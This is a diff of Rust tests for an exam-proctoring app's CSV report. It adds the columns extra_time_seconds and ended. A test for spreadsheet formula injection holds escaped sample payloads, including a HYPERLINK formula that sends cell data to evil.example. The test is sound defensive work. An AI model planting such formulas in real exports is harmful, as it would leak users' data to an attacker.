@@ -171,7 +171,7 @@ async fn the_report_has_a_row_per_student(db: Backend) {
     let lines: Vec<&str> = csv.lines().collect();
     assert_eq!(
         lines[0],
-        "student_id,name,status,answered,connections,total_disconnected_seconds,focus_lost_count,submitted_at,alerts_environment,alerts_test_taker,alerts_technical"
+        "student_id,name,status,answered,connections,total_disconnected_seconds,focus_lost_count,submitted_at,alerts_environment,alerts_test_taker,alerts_technical,extra_time_seconds,ended"
     );
     let row = |id: &str| {
         lines
@@ -184,7 +184,11 @@ async fn the_report_has_a_row_per_student(db: Backend) {
     assert_eq!(&s1[..7], ["s1", "Name s1", "submitted", "1", "1", "0", "1"]);
     assert!(s1[7].ends_with('Z'));
     assert!(row("s2").starts_with("s2,Name s2,disconnected,0,1,"));
-    assert_eq!(row("s3"), "s3,\"Cy, Jr.\",absent,0,0,0,0,,0,0,0");
+    assert_eq!(row("s3"), "s3,\"Cy, Jr.\",absent,0,0,0,0,,0,0,0,0,");
+    assert!(
+        row("s1").ends_with(",0,submitted"),
+        "s1 submitted itself: {csv}"
+    );
 }
 
 async fn report_csv(app: &TestApp, exam: &str, token: &str) -> String {
@@ -228,9 +232,9 @@ async fn the_report_cannot_carry_a_formula(db: Backend) {
     assert_eq!(
         &lines[2..],
         [
-            "\"'+s2\",\"'@SUM(1+1)\",absent,0,0,0,0,,0,0,0",
-            "s1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",absent,0,0,0,0,,0,0,0",
-            "s3,Ada,absent,0,0,0,0,,0,0,0",
+            "\"'+s2\",\"'@SUM(1+1)\",absent,0,0,0,0,,0,0,0,0,",
+            "s1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",absent,0,0,0,0,,0,0,0,0,",
+            "s3,Ada,absent,0,0,0,0,,0,0,0,0,",
         ]
     );
 }
